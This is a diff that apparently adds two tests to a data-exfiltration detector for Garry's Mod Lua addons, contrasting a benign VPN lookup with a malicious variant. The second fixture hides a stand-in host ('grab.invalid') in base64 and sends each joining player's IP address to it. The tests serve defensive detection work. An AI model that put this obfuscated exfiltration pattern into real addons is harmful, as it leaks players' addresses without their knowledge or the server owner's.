@@ -136,4 +136,32 @@ describe('dataexfiltration', () => {
     });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
+  it("a VPN lookup of joining players behind the owner's setting (benign: low)", () => {
+    const findings = check(rule, {
+      'lua/vpnguard/sh_config.lua':
+        'VPNGuard = VPNGuard or {}\nVPNGuard.Config = {\n  Enabled = true,\n}',
+      'lua/autorun/server/sv_vpn.lua': [
+        'if not VPNGuard.Config.Enabled then return end',
+        'hook.Add("PlayerInitialSpawn", "vpn", function(ply)',
+        '  local ip = string.Split(ply:IPAddress(), ":")[1]',
+        '  http.Fetch("https://ipcheck.invalid/check?ip=" .. ip, function(body) if body == "1" then print("vpn", ply) end end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toHaveLength(1);
+    expect(findings[0]!.severity).toBe('low');
+    expect(findings[0]!.chain?.some((s) => s.role === 'guard')).toBe(true);
+  });
+  it('the same toggle in front of an address only decoding reveals', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_vpn.lua': [
+        'local Config = { Enabled = GetConVar("vpn_enabled") }',
+        'if not Config.Enabled then return end',
+        'hook.Add("PlayerInitialSpawn", "vpn", function(ply)',
+        '  http.Fetch(util.Base64Decode("aHR0cHM6Ly9ncmFiLmludmFsaWQvcz9pcD0=") .. ply:IPAddress())',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
+  });
 });
